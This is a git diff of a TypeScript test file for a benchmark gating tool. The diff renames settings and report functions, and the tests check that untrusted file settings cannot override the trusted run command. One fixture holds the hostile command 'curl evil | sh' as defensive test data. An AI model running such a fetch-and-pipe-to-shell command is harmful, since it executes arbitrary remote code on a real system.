@@ -3,19 +3,19 @@ import { describe, expect, test } from 'vitest'
 import {
   differingSettings,
   judgeOtherJobsResults,
-  type TrustedFacts,
-  trustedSettings,
+  type PublisherFacts,
+  settingsOfPublishingJob,
 } from '../../../src/core/merge/judge-elsewhere.ts'
-import type { Settings } from '../../../src/core/model/settings.ts'
-import { fittingReport } from '../../../src/core/report/say/fit.ts'
-import { markdownText } from '../../../src/core/report/show/markdown.ts'
-import { readInputs } from '../../../src/effects/inputs/inputs.ts'
+import type { RunSettings } from '../../../src/core/model/settings.ts'
+import { renderReportWithinLimit } from '../../../src/core/report/say/fit-limit.ts'
+import { reportMarkdown } from '../../../src/core/report/show/markdown.ts'
+import { readInputsWithSeed } from '../../../src/effects/inputs/inputs.ts'
 import { commits, goSettings, resultFrom, settings, time } from '../report/runs.ts'
 import { named, part } from './parts.ts'
 
 describe('judge elsewhere', () => {
-  const known: TrustedFacts = {
-    inputs: readInputs(name => (name === 'run' ? 'make bench' : '')),
+  const known: PublisherFacts = {
+    inputs: readInputsWithSeed(name => (name === 'run' ? 'make bench' : '')),
     file: { file: '.github/benchgate.yml', changes: [] },
     rules: '3'.repeat(40),
     head: commits.head.sha,
@@ -67,31 +67,37 @@ describe('judge elsewhere', () => {
     const files = [named(file)]
     const withRun = markdown(judgeOtherJobsResults(files, known))
     await expect(withRun).toMatchFileSnapshot('../../golden/elsewhere.md')
-    const inputs = readInputs(() => '')
+    const inputs = readInputsWithSeed(() => '')
     const without = markdown(judgeOtherJobsResults(files, { ...known, inputs }))
     for (const report of [withRun, without]) expect(shells(report)).not.toContain('evil')
     expect(without).not.toContain('To repeat')
   })
 
   const markdown = (result: ReturnType<typeof judgeOtherJobsResults>) =>
-    fittingReport(result, 65_000, markdownText)
+    renderReportWithinLimit(result, 65_000, reportMarkdown)
   const shells = (report: string) =>
     [...report.matchAll(/```sh\n([\s\S]*?)```/g)].map(([, text]) => text).join('\n')
 })
 
 // By whose settings is judged, and which differences are told.
 describe('trusted settings', () => {
-  const inputs = (given: Readonly<Record<string, string>>) => readInputs(name => given[name] ?? '')
+  const inputs = (given: Readonly<Record<string, string>>) => readInputsWithSeed(name => given[name] ?? '')
 
   test('the settings in a file have no effect', () => {
-    const theirs: Settings = { ...settings, threshold: 1, alpha: 0.5, failOn: 'never', run: 'curl evil | sh' }
-    const ours = trustedSettings(inputs({ run: 'make bench', threshold: '3%' }), theirs)
+    const theirs: RunSettings = {
+      ...settings,
+      threshold: 1,
+      alpha: 0.5,
+      failOn: 'never',
+      run: 'curl evil | sh',
+    }
+    const ours = settingsOfPublishingJob(inputs({ run: 'make bench', threshold: '3%' }), theirs)
     expect(ours).toMatchObject({ threshold: 0.03, alpha: 0.05, failOn: 'regression', run: 'make bench' })
   })
 
   test('the command is ours, that of the Go driver by our inputs, or not known', () => {
-    const run = (given: Readonly<Record<string, string>>, theirs: Settings) =>
-      trustedSettings(inputs(given), theirs).run
+    const run = (given: Readonly<Record<string, string>>, theirs: RunSettings) =>
+      settingsOfPublishingJob(inputs(given), theirs).run
     expect(run({}, settings)).toBe('')
     expect(run({ bench: 'Encode' }, { ...settings, go: goSettings })).toContain(
       "-bench 'Encode'".replaceAll("'", ''),
@@ -100,17 +106,17 @@ describe('trusted settings', () => {
   })
 
   test('a calibration is judged as a gate', () => {
-    const ours = trustedSettings(inputs({ calibrate: 'true' }), settings)
+    const ours = settingsOfPublishingJob(inputs({ calibrate: 'true' }), settings)
     expect(ours.calibrate).toBe(false)
   })
 
-  const told = (given: Readonly<Record<string, string>>, theirs: Partial<Settings>) => {
+  const told = (given: Readonly<Record<string, string>>, theirs: Partial<RunSettings>) => {
     const measured = { ...settings, run: 'make bench', ...theirs }
-    const ours = trustedSettings(inputs({ run: 'make bench', ...given }), measured)
+    const ours = settingsOfPublishingJob(inputs({ run: 'make bench', ...given }), measured)
     return differingSettings(ours, measured).map(({ rule, base, head }) => `${rule}: ${head} for ${base}`)
   }
 
-  test.each<[Partial<Settings>, readonly string[]]>([
+  test.each<[Partial<RunSettings>, readonly string[]]>([
     [{}, []],
     [{ seed: 9, failOn: 'never', sort: 'delta', perflock: 'off', timeout: 1, shard: [1, 2] }, []],
     [{ count: 5, ruleOut: 0.2 }, ['count: 5 for 20', 'rule-out: 0.2 for 0.1']],
@@ -128,7 +134,7 @@ describe('trusted settings', () => {
       run: 'x',
       go: { ...goSettings, bench: 'Fast', benchtime: '100ms', benchmem: true },
     }
-    const ours = trustedSettings(inputs({ 'working-directory': './sub/' }), theirs)
+    const ours = settingsOfPublishingJob(inputs({ 'working-directory': './sub/' }), theirs)
     expect(differingSettings(ours, theirs)).toEqual([
       { rule: 'working-directory', base: 'sub', head: '.' },
       { rule: 'bench', base: '.', head: 'Fast' },
